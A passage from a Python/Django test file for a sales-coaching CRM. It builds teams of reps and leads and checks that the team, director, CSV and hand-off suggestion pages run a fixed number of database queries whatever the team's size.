    assert label.text and label.text.endswith("…") and len(label.text) < len(name)
    tooltip = root.find(f"{SVG}g/{SVG}title")
    assert tooltip is not None and tooltip.text == f"{name}: 3 days"


# --- Query counts ----------------------------------------------------------------------------

# The team page, measured on SQLite: 3 for the session, the user and the nudge badge, then the
# team, its reps, the lead/report/hand-off figures (per rep and for the team), the answers to
# nudges, the "only asks for help" pattern (the teams' setting and the rule's query), the open
# asks for the next lead, the pipeline now and a week ago, the stalled leads and the manager's
# debt. It must not grow with the team. The director page adds the ranking of every rep of
# their teams: the same per-rep figures, in a fixed number of queries. Since issue 22 the leads
# are counted once per page (coaching.cockpit.cube: the rep rows, the team row and the pipeline
# add up its rows), and the pipeline a week ago is one grouped query over the week's stage
# moves (there were two subqueries per lead). Before: 24 and 19. Since the lead tally (crm 0019)
# the cube is two queries: the tally's groups, and one UNION ALL of the clock's index ranges
# (created this week, stalled, closed in the period) — rows that do not grow with the team.
# Before: 20 and 15. The team page's whole-team row reads only what the page shows of it
# (coaching.cockpit.team_total: its reports; the oldest stalled lead is the stalled list's
# first), and the +2's ranking neither each rep's oldest stalled lead nor their hand-offs.
# Before: 21 and 16. The +2 page reads its teams' reports once, by team and author, for both
# its team table and its ranking (coaching.cockpit.report_cells). Before: 15. The team page
# reads its reports once the same way, for the rep rows, the team row and the counts of the
# manager's debt. Before: 19.
TEAM_PAGE_QUERIES = 17
DIRECTOR_PAGE_QUERIES = 14


def grow_team(n_reps: int, n_leads: int, clock: time_machine.Traveller) -> Team:
    """A fresh team with `n_reps` reps and `n_leads` leads handed round among them, some
    chicken-rib, some moved on, won (and thanked) or lost, a report from every rep."""
    tag = f"{n_reps}x{n_leads}"
    manager = make_user(username=f"mgr{tag}", role=Role.MANAGER)
    team = Team.objects.create(name=f"Grow {tag}", manager=manager)
    reps = []
    for i in range(n_reps):
        rep = make_user(username=f"rep{tag}-{i}", role=Role.REP)
        crm.rep_join_team(user=rep, team=team)
        reps.append(rep)
    clock.move_to(day(0))
    leads = []
    for i in range(n_leads):
        rib = {"is_chicken_rib": True, "chicken_rib_reasons": ["unreachable"]} if i % 3 == 0 else {}
        currency = Currency.USD if i % 4 == 0 else Currency.CNY
        leads.append(
            lead_for(manager, f"Lead {tag} {i}", reps[i % n_reps], currency=currency, **rib)
        )
    clock.move_to(day(2))
    for i, lead in enumerate(leads):
        owner = reps[i % n_reps]
        if i % 5 == 1:
            move(owner, lead, Stage.CONTACTED)
        elif i % 5 == 2:
            move(owner, lead, Stage.QUALIFIED, Stage.PROPOSAL, Stage.WON)
            coach.thanks_send(author=owner, lead=lead, body="Thanks")
        elif i % 5 == 3:
            move(owner, lead, Stage.LOST)
    for i, rep in enumerate(reps):
        send(rep, leads[i], ReportKind.ESCALATION)
    clock.move_to(day(20))
    return team


@pytest.mark.parametrize(("n_reps", "n_leads"), [(2, 10), (6, 80)])
def test_the_team_page_costs_the_same_for_any_team_size(
    n_reps: int,
    n_leads: int,
    clock: time_machine.Traveller,
    client_for: Any,
    django_assert_max_num_queries: Any,
) -> None:
    team = grow_team(n_reps, n_leads, clock)
    client = client_for(team.manager)
    client.get(reverse("coach-team"))  # warm the session
    with django_assert_max_num_queries(TEAM_PAGE_QUERIES):
        html = page(client, reverse("coach-team"))
    assert html.count("<tr data-rep=") == n_reps
    assert figures(html, "data-team", team.pk)["open_leads"] == str(
        team.leads.filter(stage__in=cockpit.OPEN_STAGES).count()
    )


def test_small_and_large_teams_cost_exactly_the_same(
    clock: time_machine.Traveller, client_for: Any
) -> None:
    counts = []
    for n_reps, n_leads in ((2, 10), (6, 80)):
        team = grow_team(n_reps, n_leads, clock)
        admin = make_user(username=f"admin{n_reps}", role=Role.ADMIN)
        client = client_for(admin)
        client.get(reverse("coach-director"))
        for name, url in (
            ("team", reverse("coach-team-detail", args=[team.pk])),
            ("director", reverse("coach-director")),
            ("csv", reverse("coach-team-csv") + f"?team={team.pk}"),
            ("suggest", reverse("coach-handoff-suggest") + f"?team={team.pk}"),
        ):
            with CaptureQueriesContext(connection) as queries:
                assert client.get(url).status_code == 200
            counts.append((n_reps, name, len(queries)))
    small = [(where, n) for reps, where, n in counts if reps == 2]
    large = [(where, n) for reps, where, n in counts if reps == 6]
    assert small == large
    director = dict(small)["director"]
    assert director <= DIRECTOR_PAGE_QUERIES
